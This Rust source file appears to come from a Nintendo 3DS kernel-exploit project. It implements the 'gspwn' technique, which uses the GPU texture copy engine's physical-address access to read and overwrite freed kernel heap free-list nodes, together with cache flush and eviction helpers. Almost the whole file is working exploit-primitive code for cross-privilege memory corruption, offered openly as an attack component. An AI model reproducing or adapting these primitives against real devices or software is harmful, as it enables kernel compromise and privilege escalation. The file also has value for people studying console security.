//! Cross-privilege memory copies through the GPU ("gspwn").
//!
//! The GPU's texture copy unit works on physical addresses and ignores the
//! kernel's page accounting, so it can read and write pages the process has
//! already freed. Every copy is bracketed by cache maintenance: the source is
//! flushed so the GPU sees CPU writes, the destination is invalidated so the
//! CPU does not later write back stale lines over the copied bytes, and the
//! whole data cache is evicted afterwards with [`CacheNuke`].

use crate::error::{HostOp, KhaxError, Result, ResultCode};
use crate::host::Horizon;
use crate::memory::free_block::FREE_BLOCK_SIZE;
use crate::memory::{HeapFreeBlockView, VirtAddr};
use crate::util::{PAGE_SIZE, Size};
use log::{debug, warn};
use std::time::Duration;

/// GPU-side copy and cache services (`GSPGPU`).
pub trait GpuCopyEngine {
    /// `GSPGPU_FlushDataCache`.
    fn flush_data_cache(&self, addr: VirtAddr, len: usize) -> std::result::Result<(), ResultCode>;

    /// `GSPGPU_InvalidateDataCache`.
    fn invalidate_data_cache(&self, addr: VirtAddr, len: usize) -> std::result::Result<(), ResultCode>;

    /// Queues a texture copy of `len` bytes.
    fn texture_copy(&self, src: VirtAddr, dst: VirtAddr, len: usize) -> std::result::Result<(), ResultCode>;

    /// Waits for the copy engine's completion interrupt.
    fn wait_for_copy(&self, timeout: Duration) -> std::result::Result<(), ResultCode>;
}

/// Capacity-based data cache eviction.
///
/// There is no user-mode way to invalidate the whole data cache, so this reads
/// every word of a buffer several times larger than the cache. That evicts
/// other lines only under the assumption that the buffer really is larger than
/// the cache and that the replacement policy is not pathological; neither is
/// checked. Treat it as best effort.
pub struct CacheNuke {
    buf: VirtAddr,
    size: usize,
}

impl CacheNuke {
    /// Allocates the eviction buffer from the linear heap.
    pub fn new<H: Horizon + ?Sized>(host: &H, size: Size) -> Result<Self> {
        let size = size.bytes();
        let buf = host
            .linear_alloc(size, PAGE_SIZE)
            .ok_or(KhaxError::OutOfMemory(size))?;
        debug!("cache nuke buffer {} ({} bytes)", buf, size);
        Ok(CacheNuke { buf, size })
    }

    /// Touches every word of the buffer.
    pub fn nuke<H: Horizon + ?Sized>(&self, host: &H) {
        let mut page = vec![0u8; PAGE_SIZE];
        let mut acc = 0u32;
        for offset in (0..self.size).step_by(PAGE_SIZE) {
            let len = PAGE_SIZE.min(self.size - offset);
            if host.read(self.buf + offset as u32, &mut page[..len]).is_err() {
                warn!("cache nuke: read at +0x{:x} failed", offset);
                return;
            }
            acc = page[..len]
                .chunks_exact(4)
                .fold(acc, |acc, w| acc ^ u32::from_le_bytes([w[0], w[1], w[2], w[3]]));
        }
        std::hint::black_box(acc);
    }

    /// Size of the eviction buffer in bytes.
    pub fn size(&self) -> usize {
        self.size
    }

    /// Returns the buffer to the linear heap.
    pub fn release<H: Horizon + ?Sized>(self, host: &H) {
        host.linear_free(self.buf);
    }
}

/// Issues GPU copies on behalf of a session.
pub struct CrossCopy<'a, H: Horizon + ?Sized> {
    host: &'a H,
    nuke: &'a CacheNuke,
    timeout: Duration,
}

impl<'a, H: Horizon + ?Sized> CrossCopy<'a, H> {
    /// Creates a copier that waits up to `timeout` per copy.
    pub fn new(host: &'a H, nuke: &'a CacheNuke, timeout: Duration) -> Self {
        CrossCopy {
            host,
            nuke,
            timeout,
        }
    }

    /// Copies `len` bytes from `src` to `dest` with the GPU.
    ///
    /// The source flush may fail when `src` is unmapped; that failure is
    /// ignored. With `wait` unset the copy may still be in flight when this
    /// returns.
    pub fn copy(&self, dest: VirtAddr, src: VirtAddr, len: usize, wait: bool) -> Result<()> {
        if let Err(code) = self.host.flush_data_cache(src, len) {
            debug!("gspwn: source flush {} ignored: {}", src, code);
        }
        self.host
            .invalidate_data_cache(dest, len)
            .op("GSPGPU_InvalidateDataCache")?;
        self.host
            .texture_copy(src, dest, len)
            .op("GX_TextureCopy")?;
        if wait {
            self.host.wait_for_copy(self.timeout).op("gspWaitForPPF")?;
        }
        self.nuke.nuke(self.host);
        Ok(())
    }

    /// Reads the free-list node at `src` through `scratch`.
    ///
    /// `scratch` is filled with `0xCC` first so that a copy that silently did
    /// nothing shows up as an implausible node.
    pub fn read_free_block(
        &self,
        scratch: VirtAddr,
        src: VirtAddr,
    ) -> Result<HeapFreeBlockView<[u8; FREE_BLOCK_SIZE]>> {
        self.host
            .write(scratch, &[0xCC; FREE_BLOCK_SIZE])
            .op("memset")?;
        self.copy(scratch, src, FREE_BLOCK_SIZE, true)?;
        let mut raw = [0u8; FREE_BLOCK_SIZE];
        self.host.read(scratch, &mut raw).op("read")?;
        Ok(HeapFreeBlockView::from_array(raw))
    }

    /// Writes `block` over the free-list node at `dest` through `scratch`.
    pub fn write_free_block<B: AsRef<[u8]>>(
        &self,
        scratch: VirtAddr,
        dest: VirtAddr,
        block: &HeapFreeBlockView<B>,
    ) -> Result<()> {
        let bytes = &block.as_bytes()[..FREE_BLOCK_SIZE];
        self.host.write(scratch, bytes).op("write")?;
        self.host
            .flush_data_cache(scratch, FREE_BLOCK_SIZE)
            .op("GSPGPU_FlushDataCache")?;
        self.copy(dest, scratch, FREE_BLOCK_SIZE, true)
    }
}
